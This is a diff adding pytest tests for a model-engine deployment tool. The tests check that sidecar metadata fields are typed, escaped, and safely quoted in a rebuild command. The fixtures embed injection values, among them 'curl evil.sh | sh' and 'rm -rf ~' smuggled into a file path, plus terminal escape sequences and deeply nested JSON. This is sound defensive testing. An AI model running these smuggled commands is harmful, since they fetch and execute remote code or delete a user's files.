@@ -123,3 +123,52 @@ def test_hardware_compatibility_levels(tmp_path):
     check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=GpuInfo("NVIDIA H200", "9.0"))
     with pytest.raises(ArtifactError, match="compute capability 9.0"):
         check_compatibility(doc, engine, tensorrt_version="10.3.0.26", gpu=ORIN)
+
+
+def test_f5_untrusted_onnx_path_is_quoted_in_the_rebuild_command(tmp_path):
+    import shlex
+
+    engine = _engine(tmp_path)
+    doc = json.loads(sidecar_path(engine).read_text())
+    doc["onnx_path"] = "m.onnx; curl evil.sh | sh #"
+    sidecar_path(engine).write_text(json.dumps(doc))
+    doc = read_sidecar(engine)
+    engine.write_bytes(b"replaced")
+    with pytest.raises(ArtifactError) as err:
+        check_engine_hash(doc, engine)
+    command = str(err.value).split("Rebuild with: ", 1)[1]
+    assert "'m.onnx; curl evil.sh | sh #'" in command
+    assert shlex.split(command)[:2] == ["dsl-build", "m.onnx; curl evil.sh | sh #"]  # one argument, not a command
+
+
+@pytest.mark.parametrize("field,value,message", [
+    ("onnx_path", "m.onnx\x1b[2J\r\nrm -rf ~", r"field 'onnx_path' is \"m.onnx\\x1b\[2J\\r\\nrm"),
+    ("device_memory_bytes", 1e18, r"field 'device_memory_bytes' is 1e\+18; expected an integer"),
+    ("gpu", {"name": "Orin", "compute_capability": [8, 7]}, r"field 'gpu.compute_capability' is a list"),
+    ("gpu", {"name": "Orin\x1b]0;pwned\x07", "compute_capability": "8.7"}, r"field 'gpu.name' is \"Orin\\x1b"),
+    ("build", {"flags": {"version_compatible": "yes"}}, r"field 'build.flags.version_compatible' is \"yes\""),
+    ("build", {"flags": {"hardware_compatibility": "any"}}, r"'build.flags.hardware_compatibility' is \"any\""),
+    ("tensorrt_version", "10.3; x", r"field 'tensorrt_version' is \"10.3; x\"; expected a version"),
+    ("engine_sha256", ["0" * 64], r"field 'engine_sha256' is a list"),
+    ("spec", "{}", r"field 'spec' is \"{}\"; expected an object"),
+    ("format_version", "9" * 30, r"format_version \"9{30}\" is not understood"),
+])
+def test_f4_f5_sidecar_fields_are_typed_and_their_text_escaped(tmp_path, field, value, message):
+    engine = _engine(tmp_path)
+    doc = json.loads(sidecar_path(engine).read_text())
+    doc[field] = value
+    sidecar_path(engine).write_text(json.dumps(doc))
+    with pytest.raises(ArtifactError, match=message) as err:
+        read_sidecar(engine)
+    assert "model.engine.json" in str(err.value)
+    assert not any(c in str(err.value) for c in "\x1b\r\n\x07")
+
+
+def test_f4_deeply_nested_sidecar_is_one_clear_error(tmp_path):
+    engine = _engine(tmp_path)
+    sidecar_path(engine).write_text('{"format": "dsl_deploy.engine", "build": ' + "[" * 100_000 + "]" * 100_000 + "}")
+    with pytest.raises(ArtifactError, match="model.engine.json: the sidecar is nested too deeply"):
+        read_sidecar(engine)
+    sidecar_path(engine).write_text('{"format_version": ' + "9" * 5000 + "}")
+    with pytest.raises(ArtifactError, match="model.engine.json: the sidecar is not readable JSON"):
+        read_sidecar(engine)
